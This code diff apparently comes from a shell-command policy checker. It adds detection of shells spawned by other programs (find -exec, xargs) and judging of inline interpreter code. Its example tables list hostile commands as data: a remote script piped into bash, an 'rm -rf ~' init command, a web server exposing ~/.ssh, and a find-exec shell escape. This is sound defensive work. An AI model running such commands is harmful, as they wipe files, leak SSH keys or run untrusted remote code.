@@ -12,6 +12,7 @@ from __future__ import annotations
 
 from wispsh.policy import places
 from wispsh.policy.scripts import judge_script, project_script
+from wispsh.programs.inline import INLINE_EXAMPLES, judge_inline
 from wispsh.programs.grammar import UNKNOWN, Options
 from wispsh.programs.table import FIRST, OPERANDS, Grammar, On, Program, Row, When, emits, programs, verb
 from wispsh.support.lazyre import lazy_re, re
@@ -47,6 +48,11 @@ def _stdin_file(cmd) -> str | None:
     return None
 
 
+# Where a part is a statement of the line itself (as opposed to a command another program starts).
+OWN_STATEMENTS = frozenset({"top", "clause", "subshell", "group", "function", "$()", "``", "sh -c", "eval",
+                            "heredoc", "pipe"})
+
+
 def _code_from_stdin(cmd, prefix: str, shell: bool = False) -> None:
     """No code and no script given: it reads code from its input (a file redirected in is a script it runs), or
     is an interactive session."""
@@ -60,6 +66,10 @@ def _code_from_stdin(cmd, prefix: str, shell: bool = False) -> None:
             judge_script(cmd, source, f"{cmd.name} runs")
     elif stdin_fed(cmd):
         cmd.does("run-code", f"{prefix}.stdin", f"{cmd.name} runs code from its input")
+    elif cmd.part is not None and cmd.part.origin not in OWN_STATEMENTS:
+        # `find . -exec /bin/sh \;`, `xargs bash`: a shell another program starts reads commands from
+        # whatever its input is (GTFOBins' escape), not from a person at a prompt
+        cmd.does("run-code", f"{prefix}.spawned", f"another program starts {cmd.name}, which runs what it reads")
     else:
         cmd.does("session", f"{prefix}.interactive", f"starts an interactive {cmd.name}")
 
@@ -145,7 +155,8 @@ def read_shell_words(args, init: list | None = None) -> tuple[bool, list, bool, 
         "sh.script": ["bash script.sh", "sh ./configure", "bash /tmp/x.sh"],
         "sh.script-runtime": ['bash "$S"', "bash <(curl -s https://x.example)"],
         "sh.stdin": ["echo ls | bash", "bash <<< 'ls'"], "sh.stdin-file": ["bash -s < x.sh", "sh < /tmp/x"],
-        "sh.interactive": ["bash", "zsh -l"], "sh.init-command": ["fish -C 'rm -rf ~' x.fish"],
+        "sh.interactive": ["bash", "zsh -l"], "sh.spawned": ["find . -maxdepth 0 -exec /bin/sh \\;"],
+        "sh.init-command": ["fish -C 'rm -rf ~' x.fish"],
         "sh.init-command-runtime": ['fish --init-command="$X"']})
 def shell_line(cmd, o: Options) -> None:
     """A shell: -c CODE, a script file (read and judged when it is the project's), or code from its input."""
@@ -238,7 +249,7 @@ def read_python_words(args) -> tuple[str, str | None, list]:
     return "operands", None, list(args[i:])
 
 
-@emits({"python.version": ["python3 -V"], "python.inline": ["python3 -c 'print(1)'", 'python -c "$X"'],
+@emits({**INLINE_EXAMPLES, "python.version": ["python3 -V"], "python.inline": ["python3 -c 'print(1)'", 'python -c "$X"'],
         "python.script": ["python3 x.py", "python3 /tmp/x.py"], "python.script-runtime": ['python3 "$S"'],
         "python.stdin": ["echo 'print(1)' | python3"], "python.interactive": ["python3"],
         "python.stdin-file": ["python3 < x.py"], "serve.secret": ["python3 -m http.server -d ~/.ssh"],
@@ -265,6 +276,7 @@ def python_line(cmd, o: Options) -> None:
             cmd.facts.runtime_code = True
         cmd.facts.stdin_interp = stdin_fed(cmd)     # inline code may exec() what is piped in
         cmd.does("run-code", "python.inline", f"{cmd.name} -c runs inline code")
+        judge_inline(cmd, value, "python")          # what the code visibly does can make it worse
     elif how == "module":
         _python_module(cmd, value, rest)
     elif rest and rest[0] != "-":
@@ -455,6 +467,8 @@ def _inline_hook(name: str, spec: Inline, flag: str):
                 cmd.facts.runtime_code = True
             cmd.facts.stdin_interp = stdin_fed(cmd)
             cmd.does("run-code", f"{name}.inline", f"{name} runs inline code")
+            for code in codes:
+                judge_inline(cmd, code, name)      # what the code visibly does can make it worse
             return
         for option in spec.loads:
             for value in o.all(option):
